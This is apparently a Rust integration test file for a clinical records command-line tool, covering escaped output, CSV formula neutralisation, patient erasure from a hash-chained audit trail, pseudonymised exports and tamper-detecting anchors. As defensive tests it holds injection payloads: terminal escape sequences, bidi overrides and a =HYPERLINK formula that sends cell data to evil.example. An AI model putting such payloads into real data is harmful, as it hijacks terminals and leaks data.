//! Issue 9, points 5, 7 and 8, through the real binary: stored text is shown, never obeyed by the terminal; erasure
//! leaves no patient data in the audit trail, which still verifies; pseudonymised exports hold no code, free text
//! or version; an exported anchor detects a cut or rewritten audit tail.

use std::path::Path;

use serde_json::Value;

mod common;
use common::Env;

/// OSC 52 (write the viewer's clipboard), clear screen, set the window title, and a right-to-left override.
const NAME: &str = "Eve\u{1b}]52;c;aGVsbG8=\u{7}\u{1b}[2J";
const NOTES: &str = "call\u{1b}]0;pwned\u{7} \u{202e}9000-P";
const GOAL: &str = "walk\u{9b}31m far\u{2066}";
const ASSESSOR: &str = "Dr\u{1b}[8m Who";
const ATAXIA: &str = "SCA3\u{1b}[1;1H 12 Baker Street\u{202e}";

/// Characters a terminal acts on instead of printing.
fn hidden(s: &str) -> Vec<char> {
    s.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
        })
        .collect()
}

/// P-0001 (ataxia) with an assessment, a session and a plan, and P-0002 (older adult) with an assessment.
fn two_patients(c: &Env) {
    c.ok(&[
        "patient",
        "add",
        "--code",
        "P-0001",
        "--birth-year",
        "1961",
        "--condition",
        "cerebellar-ataxia",
        "--ataxia-type",
        "SCA3 at 12 Baker Street",
        "--name",
        "Eve Adams",
        "--notes",
        "lives alone",
    ]);
    c.ok(&[
        "assess",
        "P-0001",
        "sara",
        "14",
        "--date",
        "2026-01-05",
        "--assessor",
        "Dr Who",
        "--notes",
        "tired today",
    ]);
    c.ok(&[
        "log",
        "P-0001",
        "--protocol",
        "balance-gait-older",
        "--minutes",
        "30",
        "--reps",
        "40",
        "--date",
        "2026-01-06",
        "--notes",
        "cried after the third set",
    ]);
    c.ok(&[
        "plan",
        "set",
        "P-0001",
        "--protocol",
        "balance-gait-older",
        "--start",
        "2026-01-06",
        "--goal",
        "carry the shopping home",
    ]);
    c.ok(&["patient", "edit", "P-0001", "--notes", "daughter visits"]);
    c.ok(&[
        "patient",
        "add",
        "--code",
        "P-0002",
        "--birth-year",
        "1940",
        "--condition",
        "older-adult",
    ]);
    c.ok(&["assess", "P-0002", "tug_s", "12", "--date", "2026-01-07"]);
}

fn assert_shown_not_obeyed(what: &str, out: &str) {
    assert!(
        hidden(out).is_empty(),
        "{what}: raw {:?} in\n{out}",
        hidden(out)
    );
}

/// Stored text with escape sequences and bidi overrides (planted straight into the file, as any source could)
/// is printed escaped by every human-readable command, and exactly by --json.
#[test]
fn hostile_stored_text_is_shown_escaped_and_json_stays_exact() {
    let c = Env::new();
    two_patients(&c);
    {
        let sql = c.sql();
        sql.execute(
            "UPDATE patients SET name = ?1, notes = ?2, facts = json_object('ataxia_type', ?3) WHERE code = 'P-0001'",
            [NAME, NOTES, ATAXIA],
        )
        .unwrap();
        sql.execute(
            "UPDATE assessments SET assessor = ?1, notes = ?2",
            [ASSESSOR, NOTES],
        )
        .unwrap();
        sql.execute("UPDATE sessions SET notes = ?1", [NOTES])
            .unwrap();
        sql.execute("UPDATE plans SET goal = ?1", [GOAL]).unwrap();
        sql.execute(
            "INSERT INTO clinicians (os_user, display_name, role, created_at) VALUES (?1, ?2, 'readonly', 'x')",
            ["mallory\u{1b}[2J", NAME],
        )
        .unwrap();
    }
    // A file name is the user's text too, and the audit trail quotes it.
    let backup = c.dir.path().join("copy\u{1b}]0;owned\u{7}.db");
    let said = c.ok(&["db", "backup", backup.to_str().unwrap()]);
    assert_shown_not_obeyed("db backup", &said);
    assert!(said.contains("copy\\u{1b}]0;owned\\u{7}.db"), "{said}");
    let show = c.ok(&["patient", "show", "P-0001"]);
    assert_shown_not_obeyed("patient show", &show);
    assert!(
        show.contains("Eve\\u{1b}]52;c;aGVsbG8=\\u{7}\\u{1b}[2J"),
        "{show}"
    );
    assert!(show.contains("\\u{202e}9000-P"), "{show}");
    assert!(show.contains("SCA3\\u{1b}[1;1H 12 Baker Street"), "{show}");
    assert!(show.contains("walk\\u{9b}31m far\\u{2066}"), "{show}");
    // The list shows no free text (codes, dates, protocol ids): nothing to escape, nothing raw.
    assert_shown_not_obeyed("patient list", &c.ok(&["patient", "list"]));
    for args in [
        &["history", "P-0001"][..],
        &["plan", "show", "P-0001"],
        &["audit"],
        &["clinician", "list"],
    ] {
        let out = c.ok(args);
        assert_shown_not_obeyed(&format!("{args:?}"), &out);
        assert!(out.contains("\\u{"), "{args:?} shows the escape:\n{out}");
    }
    // Tables cut long cells between whole escapes.
    let history = c.ok(&["history", "P-0001"]);
    assert!(
        !history.contains("\\u{1b…") && !history.contains("\\u…"),
        "{history}"
    );

    // CSV to standard output is printed too: its text cells show the escapes.
    let csv = c.ok(&["export", "patients"]);
    assert_shown_not_obeyed("csv export", &csv);
    assert!(csv.contains("Eve\\u{1b}]52;c;"), "{csv}");
    // The facts cell stays valid JSON: its escapes are JSON's.
    assert!(csv.contains(r"12 Baker Street\u202e"), "{csv}");
    // JSON is the stored text, exactly, and still safe on a terminal: serde_json leaves C1 and bidi controls raw,
    // Praxis writes them as \u escapes (the same value).
    for args in [
        &["patient", "show", "P-0001", "--json"][..],
        &["plan", "show", "P-0001", "--json"],
        &["export", "patients", "--format", "json"],
    ] {
        assert_shown_not_obeyed(&format!("{args:?}"), &c.ok(args));
    }
    let v = c.json(&["patient", "show", "P-0001"]);
    assert_eq!(v["patient"]["name"], NAME);
    assert_eq!(v["patient"]["notes"], NOTES);
    assert_eq!(v["patient"]["condition"]["ataxia_type"], ATAXIA);
    assert_eq!(v["plan"]["goal"], GOAL);
    let h = c.json(&["history", "P-0001"]);
    assert!(
        h.as_array()
            .unwrap()
            .iter()
            .any(|r| r["assessor"] == ASSESSOR),
        "{h}"
    );

    // Error messages quote the user's text: escaped too.
    let err = c.refused(&["patient", "show", "P-\u{1b}]52;c;aGk=\u{7}"]);
    assert_shown_not_obeyed("error", &err);
    assert!(err.contains("\\u{1b}]52;c;aGk=\\u{7}"), "{err}");
    let bad = c.dir.path().join("scores\u{1b}[2J.csv");
    std::fs::write(
        &bad,
        "patient_code,instrument,score,date\nP-0001,sara\u{1b}]0;x\u{7},14,2026-01-05\n",
    )
    .unwrap();
    let err = c.refused(&["import", "assessments", bad.to_str().unwrap()]);
    assert_shown_not_obeyed("import error", &err);
    assert!(err.contains("scores\\u{1b}[2J.csv"), "{err}");
    // A usage error quoting the refused argument.
    let err = c.refused(&["export", "patient\u{1b}[2J"]);
    assert_shown_not_obeyed("usage error", &err);
    assert!(err.contains("\\u{1b}[2J"), "{err}");
}

#[test]
fn csv_export_neutralises_formulas_in_text_and_says_so_in_help() {
    let c = Env::new();
    two_patients(&c);
    c.sql()
        .execute(
            "UPDATE assessments SET notes = ?1, assessor = '@SUM(1+1)' WHERE instrument = 'sara'",
            [r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#],
        )
        .unwrap();
    c.sql()
        .execute(
            "UPDATE patients SET name = '-2+3', notes = '+1' WHERE code = 'P-0001'",
            [],
        )
        .unwrap();
    let csv = c.ok(&["export", "assessments"]);
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
        "{csv}"
    );
    assert!(csv.contains(",'@SUM(1+1),"), "{csv}");
    // The score column is a number and stays one.
    assert!(csv.contains("P-0001,sara,14,2026-01-05,"), "{csv}");
    let pts = c.ok(&["export", "patients"]);
    assert!(pts.contains("P-0001,'-2+3,1961,"), "{pts}");
    assert!(pts.contains(",'+1,"), "{pts}");
    // JSON keeps the exact text.
    let json = c.json(&["export", "assessments", "--format", "json"]);
    assert_eq!(
        json[0]["notes"],
        r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#
    );
    let help = c.ok(&["export", "--help"]);
    assert!(
        help.contains("formula") && help.contains("leading `'`"),
        "{help}"
    );
}

/// Every column of every audit row, as text.
fn audit_text(c: &Env) -> Vec<String> {
    let sql = c.sql();
    let mut stmt = sql
        .prepare(
            "SELECT id || '|' || at || '|' || os_user || '|' || coalesce(ssh_addr, '') || '|' || action || '|' || \
             entity || '|' || entity_key || '|' || coalesce(patient_code, '') || '|' || coalesce(before_json, '') \
             || '|' || coalesce(after_json, '') || '|' || hash || '|' || coalesce(salt, '') || '|' || \
             coalesce(digest, '') FROM audit ORDER BY id",
        )
        .unwrap();
    stmt.query_map([], |r| r.get::<_, String>(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

#[test]
fn erasure_leaves_no_data_of_the_patient_in_the_audit_and_the_chain_verifies() {
    let c = Env::new();
    two_patients(&c);
    let anchor = c.dir.path().join("anchor.json");
    c.ok(&["audit", "anchor", "--out", anchor.to_str().unwrap()]);
    let before = audit_text(&c);
    assert!(
        before.iter().any(|r| r.contains("P-0001")) && before.iter().any(|r| r.contains("Baker")),
        "the trail did hold them: {before:#?}"
    );
    let out = c.ok(&["patient", "delete", "P-0001", "--yes"]);
    assert!(out.contains("Erased patient P-0001"), "{out}");
    let after = audit_text(&c);
    assert_eq!(after.len(), before.len() + 1, "one row more: the erasure");
    for row in &after {
        for secret in [
            "P-0001",
            "Eve",
            "Adams",
            "Baker",
            "SCA3",
            "Dr Who",
            "tired",
            "cried",
            "shopping",
            "daughter",
            "lives alone",
        ] {
            assert!(!row.contains(secret), "{secret:?} left in the audit: {row}");
        }
    }
    // The other patient's rows are untouched.
    assert!(after.iter().any(|r| r.contains("P-0002")), "{after:#?}");
    let v = c.json(&["audit", "--verify"]);
    assert_eq!(v["intact"], true, "{v}");
    // Erasure changes no hash: an anchor taken before still holds.
    c.ok(&["audit", "--verify", "--anchor", anchor.to_str().unwrap()]);
    let trail = c.json(&["audit"]);
    let last = trail.as_array().unwrap().last().unwrap().clone();
    assert_eq!(
        (last["action"].as_str(), last["entity"].as_str()),
        (Some("delete"), Some("patient"))
    );
    assert!(last["after"]["audit_rows"].as_i64().unwrap() >= 5, "{last}");
    assert!(
        trail
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["erased"] == true)
            .count()
            >= 5
    );
    assert!(
        c.json(&["audit", "--patient", "P-0001"])
            .as_array()
            .unwrap()
            .is_empty()
    );
    let table = c.ok(&["audit"]);
    assert!(
        table.contains("erase a patient: 1 assessments, 1 sessions"),
        "{table}"
    );
    assert!(table.contains("create assessment (erased)"), "{table}");
}

#[test]
fn the_audit_refuses_erasing_rows_of_a_patient_who_still_exists_and_detects_payload_changes() {
    let c = Env::new();
    two_patients(&c);
    let sql = c.sql();
    let e = sql
        .execute(
            "UPDATE audit SET salt = NULL, entity_key = '(erased)', patient_code = NULL, before_json = NULL, \
             after_json = NULL WHERE patient_code = 'P-0002'",
            [],
        )
        .unwrap_err();
    assert!(e.to_string().contains("append-only"), "{e}");
    let e = sql
        .execute("UPDATE audit SET after_json = '{}' WHERE id = 3", [])
        .unwrap_err();
    assert!(e.to_string().contains("append-only"), "{e}");
    // Dropping the trigger and changing a payload: the digest no longer matches.
    sql.execute_batch(
        "DROP TRIGGER audit_no_update; UPDATE audit SET after_json = replace(after_json, '12', '9') \
         WHERE patient_code = 'P-0002' AND entity = 'assessment';",
    )
    .unwrap();
    let err = c.refused(&["audit", "--verify"]);
    assert!(err.contains("does not match its hash"), "{err}");
}

#[test]
fn pseudonymised_exports_hold_no_code_free_text_or_version() {
    let c = Env::new();
    two_patients(&c);
    let mut pseudonyms = Vec::new();
    for kind in ["patients", "assessments", "sessions"] {
        for format in ["csv", "json"] {
            let out = c.ok(&["export", kind, "--format", format, "--pseudonymised"]);
            for secret in [
                "P-0001",
                "P-0002",
                "Baker",
                "SCA3",
                "ataxia_type",
                "Eve",
                "Dr Who",
                "tired",
                "cried",
                "version",
            ] {
                assert!(
                    !out.contains(secret),
                    "{kind} {format}: {secret:?} in\n{out}"
                );
            }
            if format == "json" {
                let v: Value = serde_json::from_str(&out).unwrap();
                for r in v.as_array().unwrap() {
                    let p = r
                        .get("code")
                        .or_else(|| r.get("patient_code"))
                        .and_then(Value::as_str)
                        .unwrap();
                    assert!(p.starts_with("S-") && p.len() == 14, "{p}");
                    pseudonyms.push((kind, p.to_string()));
                }
            }
        }
    }
    // One patient, one pseudonym across exports: the exports can be joined.
    let of = |kind: &str| -> Vec<String> {
        let mut v: Vec<String> = pseudonyms
            .iter()
            .filter(|(k, _)| *k == kind)
            .map(|(_, p)| p.clone())
            .collect();
        v.sort();
        v.dedup();
        v
    };
    assert_eq!(of("patients").len(), 2);
    for p in of("assessments").iter().chain(&of("sessions")) {
        assert!(of("patients").contains(p), "{p}");
    }
    // Stable between two exports of the same database.
    let again = c.json(&["export", "patients", "--format", "json", "--pseudonymised"]);
    let mut codes: Vec<String> = again
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["code"].as_str().unwrap().to_string())
        .collect();
    codes.sort();
    assert_eq!(codes, of("patients"));
}

fn delete_newest_audit_rows(db: &Path, n: i64) {
    let sql = rusqlite::Connection::open(db).unwrap();
    sql.execute_batch("DROP TRIGGER audit_no_delete;").unwrap();
    sql.execute(
        "DELETE FROM audit WHERE id > (SELECT max(id) FROM audit) - ?1",
        [n],
    )
    .unwrap();
}

#[test]
fn an_anchor_detects_a_cut_tail_and_a_rewritten_history_and_accepts_growth() {
    let c = Env::new();
    two_patients(&c);
    let anchor = c.dir.path().join("anchor.json");
    let printed: Value = serde_json::from_str(&c.ok(&["audit", "anchor"])).unwrap();
    c.ok(&["audit", "anchor", "--out", anchor.to_str().unwrap()]);
    let saved: Value = serde_json::from_str(&std::fs::read_to_string(&anchor).unwrap()).unwrap();
    assert_eq!(saved["rows"], printed["rows"]);
    assert_eq!(saved["last_hash"], printed["last_hash"]);
    assert!(saved["rows"].as_i64().unwrap() >= 8, "{saved}");
    assert_eq!(saved["last_id"], saved["rows"]);
    let a = anchor.to_str().unwrap();

    // Grown since: fine.
    c.ok(&["assess", "P-0002", "tug_s", "11", "--date", "2026-01-08"]);
    let ok = c.ok(&["audit", "--verify", "--anchor", a]);
    assert!(ok.contains("intact") && ok.contains("anchor"), "{ok}");

    // An attacker with the file deletes the newest rows: the chain alone cannot tell, the anchor can.
    delete_newest_audit_rows(&c.db, 3);
    c.ok(&["audit", "--verify"]);
    let err = c.refused(&["audit", "--verify", "--anchor", a]);
    assert!(err.contains("rows were removed from its end"), "{err}");
    let v: Value = serde_json::from_str(
        &String::from_utf8(
            c.run(&["audit", "--verify", "--anchor", a, "--json"])
                .stdout,
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(v["intact"], false, "{v}");

    // Rewritten and rehashed history as long as the anchor's: its newest hash differs.
    let other = Env::new();
    two_patients(&other);
    other.ok(&["assess", "P-0002", "tug_s", "10", "--date", "2026-01-09"]);
    let err = other.refused(&["audit", "--verify", "--anchor", a]);
    assert!(err.contains("was rewritten"), "{err}");

    // A file that is no anchor is named.
    let junk = c.dir.path().join("junk.json");
    std::fs::write(&junk, "{}").unwrap();
    let err = c.refused(&["audit", "--verify", "--anchor", junk.to_str().unwrap()]);
    assert!(err.contains("is not an audit anchor"), "{err}");
}
